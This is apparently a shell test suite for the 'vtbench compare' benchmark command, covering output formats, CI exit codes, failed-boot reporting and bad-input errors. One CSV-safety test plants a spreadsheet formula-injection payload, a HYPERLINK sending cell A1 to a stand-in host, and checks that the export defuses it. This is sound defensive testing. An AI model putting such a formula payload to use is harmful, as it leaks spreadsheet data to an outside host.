# `vtbench compare` on the generated fixture database (tests/tools/mkfixture.c,
# FIXTURE_VERSION): the JSON document golden, exit codes for CI (a campaign
# with an injected slowdown against a clean one exits 1, clean against
# clean 0, --fail-on none 0), selection, output files, and bad input (exit 2
# with a message).  Regenerate the goldens with UPDATE_GOLDEN=1 after an
# intended change (and after changing FIXTURE_VERSION), and review the diff.
. "$SRCDIR/tests/cli/lib.sh"
cd "$SRCDIR" || exit 1

E=tests/cli/expected
# text is sized to COLUMNS (else the terminal, also the one a pipe is read
# on, else 80): the goldens are 100 columns wide
COLUMNS=100
export COLUMNS
MKFIXTURE=${MKFIXTURE:-$(dirname "$VTBENCH")/tests/tools/mkfixture}
if [ ! -x "$MKFIXTURE" ]; then
	notok "mkfixture is built" "$MKFIXTURE is missing (make tests)"
	exit 1
fi

if [ "${UPDATE_GOLDEN:-}" = 1 ]; then "$MKFIXTURE" --version >$E/compare-fixture.version; fi
expect_eq "the goldens were made from this fixture version" \
	"$("$MKFIXTURE" --version)" "$(cat $E/compare-fixture.version)"

for v in base clean slow other gaps failed bare one slowboot allfail sched; do
	"$MKFIXTURE" "$T/$v.db" "$v" 2>"$T/err" || notok "mkfixture $v" "$(cat "$T/err")"
done
"$MKFIXTURE" "$T/both.db" base clean 2>"$T/err" || notok "mkfixture base clean" "$(cat "$T/err")"
"$MKFIXTURE" "$T/empty.db" 2>"$T/err" || notok "mkfixture (empty)" "$(cat "$T/err")"

golden() { # name expected-file expected-exit args...
	_n=$1 _e=$2 _x=$3; shift 3
	"$VTBENCH" compare "$@" >"$T/got" 2>"$T/err"; _rc=$?
	if [ "${UPDATE_GOLDEN:-}" = 1 ]; then cp "$T/got" "$_e"; fi
	if [ $_rc -eq "$_x" ] && cmp -s "$T/got" "$_e"; then ok "$_n"; return; fi
	notok "$_n" "exit $_rc (want $_x)" "$(diff -u "$_e" "$T/got" | head -n 30)" \
		"$(head -c 400 "$T/err")"
}

# guest vs host: "vm ... pinning=none" is 10% slower than its baseline
golden "compare json: each VM against its own baseline" $E/compare-own.json 1 \
	--db "$T/base.db" --format json
golden "compare json: tonight (slowdown injected) against last night" \
	$E/compare-against-slow.json 1 --db "$T/slow.db" --against "$T/base.db" --format json
golden "compare json: along the topology axis" $E/compare-axis-topology.json 0 \
	--db "$T/base.db" --axis topology --format json

# rows without an answer are answers: missing and error rows, never a
# vanished row or an exit 3 for the whole compare (the text says why)
golden "compare text: missing and error rows say why" $E/compare-gaps.txt 1 \
	--db "$T/gaps.db" --format text
expect_exit "compare json on the gaps: exit 1, not 3" 1 "$VTBENCH" compare --db "$T/gaps.db" \
	--format json
if command -v python3 >/dev/null 2>&1; then
	got=$(python3 -c 'import json,sys
d = json.load(open(sys.argv[1]))
print(" ".join(sorted("%s/%s/%s=%s" % (r["x"]["config"][-2:], r["cell"], r["metric"], r["verdict"])
		     for r in d["rows"] if r["verdict"] in ("missing", "error"))))' "$T/out")
	expect_eq "compare: each gap is its own missing or error row" "$got" \
		"01/c2c/one_way_mean_ns=error 01/stream/copy=error 01/stream/triad=missing 02/c2c/one_way_mean_ns=error 02/wakeup/wakeup_p50=missing 02/wakeup/wakeup_p99=missing 03/c2c/c2c_levels=error 03/c2c/one_way_mean_ns=error 03/stream/copy=error"
fi
expect_exit "compare --fail-on none on the gaps exits 0" 0 \
	"$VTBENCH" compare --db "$T/gaps.db" --fail-on none
expect_exit "compare --fail-on possible: an inconclusive row past the threshold exits 1" 1 \
	"$VTBENCH" compare --db "$T/base.db" --fail-on possible --metric 'wakeup_p99' \
	--baseline 'baseline*' --workload wakeup
# (the c2c rows: one worse, none possible; the intervals of the other
# rows are at the FCR level and some reach past 5%)
expect_exit "compare --fail-on possible alone ignores worse rows" 0 \
	"$VTBENCH" compare --db "$T/slow.db" --against "$T/base.db" --fail-on possible --workload c2c
expect_exit "compare --fail-on worse,possible" 1 \
	"$VTBENCH" compare --db "$T/slow.db" --against "$T/base.db" --fail-on worse,possible
expect_exit "compare --fail-on garbage exits 2" 2 \
	"$VTBENCH" compare --db "$T/base.db" --fail-on worse,
expect_grep "compare --fail-on garbage says what it takes" "$T/err" "worse, possible"

# issue 26: what a gate cannot judge never passes it, and one slow boot
# cannot hide a regression.  one: a boot a configuration, every row few
golden "compare text: nothing could be judged with one boot a side" $E/compare-one.txt 1 \
	--db "$T/one.db" --format text
expect_grep "compare: one boot a side says what is needed" "$T/got" \
	"nothing could be judged: 2 boots a side are needed"
expect_exit "compare --fail-on possible: few rows fail it" 1 \
	"$VTBENCH" compare --db "$T/one.db" --fail-on possible --quiet
expect_exit "compare --fail-on none: nothing fails" 0 \
	"$VTBENCH" compare --db "$T/one.db" --fail-on none --quiet
"$VTBENCH" compare --db "$T/one.db" --format json >"$T/one.json"
expect_eq "compare json: one boot has no CoV (null, not 0)" \
	"$(python3 -c 'import json,sys; d=json.load(open(sys.argv[1]))
print(sorted({str(r["x"]["summary"]["cov"]) for r in d["rows"]}), d["summary"]["few"], d["summary"]["rows"])' "$T/one.json")" \
	"['None'] 15 15"
# slowboot: the cores/strict guest 10% slower, one baseline boot x3 slower
golden "compare text: a slow baseline boot is set aside and named" $E/compare-slowboot.txt 1 \
	--db "$T/slowboot.db" --format text
expect_grep "compare text: the boot set aside is named with its rep and id" "$T/got" \
	"boot rep 2 (id 9) of c1: 0.331x the median of the other boots"
for f in md csv html; do
	"$VTBENCH" compare --db "$T/slowboot.db" --format $f >"$T/sb.$f" 2>"$T/err"
	expect_grep "compare $f: the boot set aside is named" "$T/sb.$f" "rep 2 (id 9)"
done
"$VTBENCH" compare --db "$T/slowboot.db" --format json >"$T/sb.json"
expect_eq "compare json: the boot set aside is named in its side" \
	"$(python3 -c 'import json,sys; d=json.load(open(sys.argv[1]))
a = {(e["rep"], e["boot"]) for r in d["rows"] for e in r["base"]["set_aside"]}
print(sorted(a), d["summary"]["set_aside"], sum(len(r["x"]["set_aside"]) for r in d["rows"]))' "$T/sb.json")" \
	"[(2, 9)] 12 0"
expect_exit "compare --no-robust: the slow boot hides the regression (plain statistic)" 0 \
	"$VTBENCH" compare --db "$T/slowboot.db" --no-robust --quiet
# the family BH runs over: the rows shown (a filter changes q and the
# level), or --family all (the filtered rows keep the whole table's)
famq() { python3 -c 'import json,sys; d=json.load(sys.stdin)
print(" ".join("%s:%.6g" % (r["x"]["config"][-2:], r["q"]) for r in d["rows"]
               if r["metric"] == "wakeup_p50"), d["summary"]["family"], d["summary"]["tested"],
      "%.6f" % d["summary"]["ci_level"])'; }
all_q=$("$VTBENCH" compare --db "$T/base.db" --format json | famq)
shown_q=$("$VTBENCH" compare --db "$T/base.db" --format json --metric wakeup_p50 | famq)
fam_q=$("$VTBENCH" compare --db "$T/base.db" --format json --metric wakeup_p50 --family all | famq)
expect_eq "compare --family all: the filtered rows keep the whole table's q and level" \
	"${fam_q% all *}|${fam_q#* all }" "${all_q% shown *}|${all_q#* shown }"
if [ "${shown_q% shown *}" != "${all_q% shown *}" ] && [ "${shown_q#* shown }" != "${all_q#* shown }" ]; then
	ok "compare --metric: BH over the rows shown changes q and the level"
else notok "compare --metric: BH over the rows shown changes q and the level" "$shown_q" "$all_q"; fi
expect_exit "compare --family garbage exits 2" 2 "$VTBENCH" compare --db "$T/base.db" --family some

# allfail: every VM boot failed: every row missing, not decided, exit 1
golden "compare text: every VM failed, every row missing" $E/compare-allfail.txt 1 \
	--db "$T/allfail.db" --format text

# failed boots and cells come first, in every format, before any verdict
# (issue 17): the boots by status, then each failure with its reason
golden "compare text: failed boots and cells first, with their reasons" $E/compare-failed.txt 1 \
	--db "$T/failed.db" --format text
# (the counts' paragraph, with the level of the intervals, then the boots)
expect_eq "compare text: the verdicts counted, then the boots by status" \
	"$(sed -n '3,/^boots/p' "$T/got" | sed -n '1p;$p' | cut -c1-46)" \
	"15 rows: 5 worse (5 confirmed), 0 better, 5 sa
boots        20: 14 ok, 5 failed, 1 timeout"
expect_eq "compare text: the counts' paragraph has no blank line" \
	"$(sed -n '3,/^boots/p' "$T/got" | grep -c '^$')" 0
for f in md:'5 failed' html:'5 failed' json:'"failed": 5' csv:',20,14,5,1,0,'; do
	want=${f#*:} f=${f%%:*}
	"$VTBENCH" compare --db "$T/failed.db" --format $f >"$T/failed.$f" 2>"$T/err"
	expect_grep "compare $f: the failed boots are counted" "$T/failed.$f" "$want"
	if [ $f != csv ]; then
		expect_grep "compare $f: a failed boot's reason" "$T/failed.$f" \
			"cannot start the domain: unsupported configuration"
		expect_grep "compare $f: a failed cell's reason" "$T/failed.$f" \
			"wakeup: timer$([ $f = md ] && printf '\\')_create: Invalid argument"
	fi
done
if [ "$(grep -n 'boot timeout' "$T/failed.md" | cut -d: -f1)" -lt \
	"$(grep -n '^| metric' "$T/failed.md" | head -n 1 | cut -d: -f1)" ]; then
	ok "compare md: the failures come before the first table"
else
	notok "compare md: the failures come before the first table" "$(head -n 20 "$T/failed.md")"
fi

# a campaign of baselines alone: what to compare instead, no VM fields, exit 0
golden "compare text: baselines alone say what to compare" $E/compare-bare.txt 0 \
	--db "$T/bare.db" --format text
expect_grep "compare text: baselines alone suggest an axis" "$T/got" "(--axis cpus)"
if grep -qE '^accelerator|\?' "$T/got"; then
	notok "compare text: baselines alone have no VM fields" "$(grep -nE '^accelerator|\?' "$T/got")"
else ok "compare text: baselines alone have no VM fields"; fi
expect_exit "compare --axis cpus compares the baselines" 0 \
	"$VTBENCH" compare --db "$T/bare.db" --axis cpus --fail-on none
expect_grep "compare --axis cpus: a row per metric" "$T/out" "5 rows: 0 worse, 0 better, "

# text fits COLUMNS: every line of the report, at 80 and at 100
for w in 80 100; do
	for v in base failed gaps; do
		COLUMNS=$w "$VTBENCH" compare --db "$T/$v.db" >"$T/w$w" 2>"$T/err"
		long=$(awk -v w=$w 'length($0) > w' "$T/w$w" | head -n 3)
		if [ -z "$long" ] && [ -s "$T/w$w" ]; then ok "compare text $v: COLUMNS=$w, no line wider"
		else notok "compare text $v: COLUMNS=$w, no line wider" "$long"; fi
	done
done
COLUMNS=80 "$VTBENCH" compare --db "$T/base.db" >"$T/w80" 2>&1
"$VTBENCH" compare --db "$T/base.db" >"$T/w100" 2>&1
# setsid: no controlling terminal, whose width a pipe would get
env -u COLUMNS setsid -w "$VTBENCH" compare --db "$T/base.db" >"$T/wdef" 2>&1
if awk 'length($0) > 80 { n++ } END { exit !n }' "$T/w100" && ! cmp -s "$T/w80" "$T/w100" &&
	cmp -s "$T/w80" "$T/wdef"; then
	ok "compare text: without COLUMNS and a terminal, 80 columns"
else notok "compare text: without COLUMNS and a terminal, 80 columns"; fi

# on a terminal, its width (TIOCGWINSZ): a pseudo-terminal of 70 columns
if need script; then
	w=$(env -u COLUMNS script -qec "stty cols 70; '$VTBENCH' compare --db '$T/base.db'" /dev/null </dev/null |
		tr -d '\r' | awk '{ if (length($0) > m) m = length($0) } END { print m + 0 }')
	if [ "$w" -gt 60 ] && [ "$w" -le 70 ]; then ok "compare text on a 70-column terminal: $w wide"
	else notok "compare text on a 70-column terminal" "widest line $w"; fi
fi

# the CSV loads: its first line is the header row (python's csv module);
# the failures come first, a line each (kind failure) with its cell and
# reason, then the verdict rows (kind verdict), whose columns keep their order
if command -v python3 >/dev/null 2>&1; then
	"$VTBENCH" compare --db "$T/failed.db" --format csv >"$T/f.csv" 2>"$T/err"
	"$VTBENCH" compare --db "$T/failed.db" --format json >"$T/f.json" 2>"$T/err"
	got=$(python3 -c 'import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
k = list(rows[0].keys())
print(len(rows), k[:9], k[9:12], k[-8:], sorted(set(r["verdict"] for r in rows)),
      rows[0]["schema"], rows[0]["campaign"][-4:], rows[0]["boots_failed"])' "$T/f.csv" 2>&1)
	expect_eq "compare csv: csv.DictReader reads the header and every line" "$got" \
		"18 ['schema', 'campaign', 'against', 'boots_total', 'boots_ok', 'boots_failed', 'boots_timeout', 'boots_unexpected_topology', 'workload'] ['cell', 'metric', 'unit'] ['failure_boots', 'failure_reps', 'ci_level', 'row_ci_low_pct', 'row_ci_high_pct', 'boots_needed_over', 'base_set_aside', 'x_set_aside'] ['', 'missing', 'same', 'worse'] vtbench-compare/2 0010 5"
	# each failure of the JSON is a line, in its order, before any verdict
	csvfail='import csv, json, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
camp = json.load(open(sys.argv[2]))["campaign"]
kinds = [r["kind"] for r in rows]
nf = kinds.count("failure")
print("order", kinds == ["failure"] * nf + ["verdict"] * (len(rows) - nf))
want = [(camp["uuid"], f["config"], f["label"], f["cell"] or "", f["status"], str(f["boots"]),
	 ",".join(map(str, f["reps"])), f["reason"]) for f in camp["failures"]]
got = [(r["failure_campaign"], r["failure_config"], r["failure_label"], r["cell"],
	r["failure_status"], r["failure_boots"], r["failure_reps"], r["reason"])
       for r in rows if r["kind"] == "failure"]
print("failures", len(want), got == want or got)
for r in rows[:nf]:
	print(r["cell"] or "-", r["failure_status"], r["reason"])'
	got=$(python3 -c "$csvfail" "$T/f.csv" "$T/f.json" 2>&1)
	expect_eq "compare csv: each failed boot and cell is a line with its reason, first" "$got" \
		"order True
failures 3 True
wakeup failed wakeup: timer_create: Invalid argument
- failed cannot start the domain: unsupported configuration: CPU topology doesn't match the vCPU count
- timeout no record from the guest within 600 s"
	# a reason is guest text: one a spreadsheet would run as a formula is
	# defused like every other field (a leading ', OWASP)
	cp "$T/failed.db" "$T/evil.db"
	python3 -c 'import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute("UPDATE result SET error = ? WHERE status <> ?", ("=HYPERLINK(\"http://x/?\"&A1,\"hi\")", "ok"))
db.execute("UPDATE boot SET error = ? WHERE status <> ?", ("@SUM(A1)", "ok"))
db.commit()' "$T/evil.db" || notok "compare csv: a crafted reason is stored"
	"$VTBENCH" compare --db "$T/evil.db" --format csv >"$T/evil.csv" 2>"$T/err"
	expect_grep "compare csv: a reason starting with = gets a leading '" "$T/evil.csv" \
		",\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"hi\"\")\",failure,"
	"$VTBENCH" compare --db "$T/evil.db" --format json >"$T/evil.json" 2>"$T/err"
	got=$(python3 -c 'import csv, sys
rows = [r for r in csv.DictReader(open(sys.argv[1], newline="")) if r["kind"] == "failure"]
print(len(rows), [c for r in rows for c in r.values() if c[:1] in ("=", "+", "-", "@")])
for r in rows:
	print(r["reason"])' "$T/evil.csv" 2>&1)
	expect_eq "compare csv: crafted reasons read back defused, no field starts a formula" "$got" \
		"3 []
'=HYPERLINK(\"http://x/?\"&A1,\"hi\")
'@SUM(A1)
'@SUM(A1)"
elif [ "${CI:-}" = true ]; then
	notok "compare csv: python3 reads it back" "python3 is missing"
fi

# the other formats of the same comparison
golden "compare text: each VM against its own baseline" $E/compare-own.txt 1 \
	--db "$T/base.db" --format text
golden "compare md: each VM against its own baseline" $E/compare-own.md 1 \
	--db "$T/base.db" --format md
golden "compare csv: each VM against its own baseline" $E/compare-own.csv 1 \
	--db "$T/base.db" --format csv

# issue 28: the scheduler's counters per configuration and level, and the
# largest differences along an axis, in words; never part of the gate
golden "compare text: the scheduler evidence along pinning" $E/compare-sched.txt 1 \
	--db "$T/sched.db" --axis pinning --format text
golden "compare json: the scheduler evidence along pinning" $E/compare-sched.json 1 \
	--db "$T/sched.db" --axis pinning --format json
golden "compare md: the scheduler evidence along pinning" $E/compare-sched.md 1 \
	--db "$T/sched.db" --axis pinning --format md
rowsof() { # db: each row's cell, metric, verdict and change
	"$VTBENCH" compare --db "$1" --axis pinning --format json | python3 -c 'import json,sys
print(sorted((r["cell"], r["metric"], r["verdict"], r["change_pct"]) for r in json.load(sys.stdin)["rows"]))'
}
if command -v python3 >/dev/null 2>&1; then
	expect_eq "the same boots with evidence: the same rows and verdicts" \
		"$(rowsof "$T/sched.db")" "$(rowsof "$T/base.db")"
fi
expect_exit "compare --metric 'evidence/*' along pinning: rows, never exit 1" 0 \
	"$VTBENCH" compare --db "$T/sched.db" --axis pinning --metric 'evidence/*'
expect_grep "... the unpinned guest's host run delay is a row" "$T/out" "vcpu_run_delay_pct"
expect_grep "... and the per-level table is still there" "$T/out" "sched    cell wakeup, mean of 5 boots:"
# a database from elsewhere: rates no sum can hold, an infinite one
cp "$T/sched.db" "$T/huge.db"
sql "$T/huge.db" "UPDATE sample SET value = 1.7e308 WHERE metric = 'evidence/mc_lb_per_s';
UPDATE sample SET value = 1e999 WHERE id = (SELECT min(id) FROM sample
	WHERE metric = 'evidence/wake_remote_pct')"
expect_exit "compare on evidence past a double's range: the same verdicts, exit 1" 1 \
	"$VTBENCH" compare --db "$T/huge.db" --axis pinning
expect_grep "... the figure in exponent form, the sum that overflows left out" "$T/out" \
	"           MC       1.7e+308    3.3%      2.6"
expect_exit "compare --metric '*' leaves the evidence out" 1 \
	"$VTBENCH" compare --db "$T/sched.db" --axis pinning --metric '*' --format csv
if grep -q "evidence/" "$T/out"; then notok "... no evidence row under '*'" "$(grep -m1 evidence/ "$T/out")"; else ok "... no evidence row under '*'"; fi

expect_exit "compare: the same document twice" 0 \
	"$VTBENCH" compare --db "$T/base.db" --format json --fail-on none
cp "$T/out" "$T/first.json"
"$VTBENCH" compare --db "$T/base.db" --format json --fail-on none >"$T/second.json" 2>&1
if cmp -s "$T/first.json" "$T/second.json"; then ok "compare: reproducible"; else
	notok "compare: reproducible" "$(diff "$T/first.json" "$T/second.json" | head)"; fi
expect_grep "compare json: names its schema" "$T/first.json" '"schema": "vtbench-compare/2"'
if grep -qiE 'nan|inf' "$T/first.json"; then
	notok "compare json: no NaN or infinity" "$(grep -niE 'nan|inf' "$T/first.json" | head -3)"
else ok "compare json: no NaN or infinity"; fi

# exit codes for CI
expect_exit "compare --against: an injected slowdown exits 1" 1 \
	"$VTBENCH" compare --db "$T/slow.db" --against "$T/base.db"
expect_grep "compare --against: the slowdown is worse" "$T/out" "worse"
expect_exit "compare --against: two clean campaigns exit 0" 0 \
	"$VTBENCH" compare --db "$T/clean.db" --against "$T/base.db"
expect_exit "compare --fail-on none: a worse row exits 0" 0 \
	"$VTBENCH" compare --db "$T/slow.db" --against "$T/base.db" --fail-on none
expect_exit "compare --against-campaign within one database" 0 \
	"$VTBENCH" compare --db "$T/both.db" --against-campaign f1c70000-0000-4000-8000-00000000000a
expect_exit "compare --campaign by prefix" 1 \
	"$VTBENCH" compare --db "$T/both.db" --campaign f1c70000-0000-4000-8000-00000000000a \
	--format json
expect_grep "compare --campaign picks that campaign" "$T/out" \
	'"uuid": "f1c70000-0000-4000-8000-00000000000a"'
expect_exit "compare --baseline by label glob" 1 \
	"$VTBENCH" compare --db "$T/base.db" --baseline 'vm*smt*'
expect_exit "compare --metric keeps the matching metrics" 1 \
	"$VTBENCH" compare --db "$T/base.db" --metric 'tri*' --format csv
expect_eq "compare --metric: only triad rows" "$(grep -c triad "$T/out")" 3

# the text report keeps what the guest tests read
expect_exit "compare text: exit 1 on the fixture" 1 "$VTBENCH" compare --db "$T/base.db"
expect_grep "compare text: guest vs host" "$T/out" "guest vs host"
expect_grep "compare text: the SMT guest's levels" "$T/out" "levels SMT (4 of 5 boots)"

# output files: the format from the extension
expect_exit "compare -o FILE.json" 1 "$VTBENCH" compare --db "$T/base.db" -o "$T/r.json"
if cmp -s "$T/r.json" $E/compare-own.json; then ok "compare -o FILE.json writes the json"; else
	notok "compare -o FILE.json writes the json" "$(head -c 300 "$T/r.json")"; fi
expect_exit "compare -o FILE.html" 1 "$VTBENCH" compare --db "$T/base.db" -o "$T/r.html"
expect_grep "compare -o FILE.html writes html" "$T/r.html" "<html"
expect_exit "compare -o - is stdout" 1 "$VTBENCH" compare --db "$T/base.db" -o - --format csv
expect_grep "compare csv: a column names the schema" "$T/out" "vtbench-compare/2,f1c70000-"
expect_exit "compare -o FILE.unknown: exit 2" 2 "$VTBENCH" compare --db "$T/base.db" -o "$T/r.xyz"
expect_grep "compare -o FILE.unknown: says so" "$T/err" "cannot tell the format of"

# bad input: exit 2, a message each
expect_exit "compare: empty database exits 2" 2 "$VTBENCH" compare --db "$T/empty.db"
expect_grep "compare: empty database is named" "$T/err" "no campaign in '$T/empty.db'"
expect_exit "compare: unknown campaign exits 2" 2 \
	"$VTBENCH" compare --db "$T/base.db" --campaign 0123
expect_grep "compare: unknown campaign is named" "$T/err" "no campaign '0123'"
expect_exit "compare: ambiguous campaign prefix exits 2" 2 \
	"$VTBENCH" compare --db "$T/both.db" --campaign f1c7
expect_grep "compare: ambiguous campaign prefix says so" "$T/err" "is ambiguous"
expect_exit "compare --against with no matching cells exits 2" 2 \
	"$VTBENCH" compare --db "$T/other.db" --against "$T/base.db"
expect_grep "compare --against with no matching cells says so" "$T/err" "matches one of campaign"
expect_exit "compare --metric matching nothing exits 2" 2 \
	"$VTBENCH" compare --db "$T/base.db" --metric 'nothing*'
expect_grep "compare --metric matching nothing says so" "$T/err" "no metric matches 'nothing*'"
expect_exit "compare --workload unknown exits 2" 2 \
	"$VTBENCH" compare --db "$T/base.db" --workload nothing
expect_exit "compare --baseline matching nothing exits 2" 2 \
	"$VTBENCH" compare --db "$T/base.db" --baseline 'nothing*'
expect_exit "compare --axis unknown exits 2" 2 "$VTBENCH" compare --db "$T/base.db" --axis nope
expect_exit "compare --axis host without --against exits 2" 2 \
	"$VTBENCH" compare --db "$T/base.db" --axis host
expect_exit "compare --against a missing database exits 2" 2 \
	"$VTBENCH" compare --db "$T/base.db" --against "$T/none.db"
expect_exit "compare --threshold garbage exits 2" 2 \
	"$VTBENCH" compare --db "$T/base.db" --threshold x
expect_exit "compare --cov-limit garbage exits 2" 2 \
	"$VTBENCH" compare --db "$T/base.db" --cov-limit noise=3
expect_exit "compare --format unknown exits 2" 2 "$VTBENCH" compare --db "$T/base.db" --format yaml
